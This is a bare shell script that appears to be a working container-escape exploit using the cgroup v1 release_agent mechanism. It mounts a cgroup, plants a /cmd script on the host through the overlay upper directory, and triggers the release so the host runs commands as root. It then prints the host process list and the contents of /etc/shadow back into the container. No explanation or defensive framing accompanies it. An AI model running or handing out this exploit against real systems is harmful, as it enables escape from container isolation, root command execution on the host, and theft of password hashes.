#!/bin/sh
mkdir -p /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && mkdir -p /tmp/cg/x
echo 1 > /tmp/cg/x/notify_on_release
host_path=$(sed -n 's/.*\perdir=\([^,]*\).*/\1/p' /etc/mtab)
echo "$host_path/cmd" > /tmp/cg/release_agent
echo '#!/bin/sh' > /cmd
echo "ps aux > $host_path/output; cat /etc/shadow >> $host_path/output" >> /cmd
chmod a+x /cmd
sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'
sleep 1
cat /output
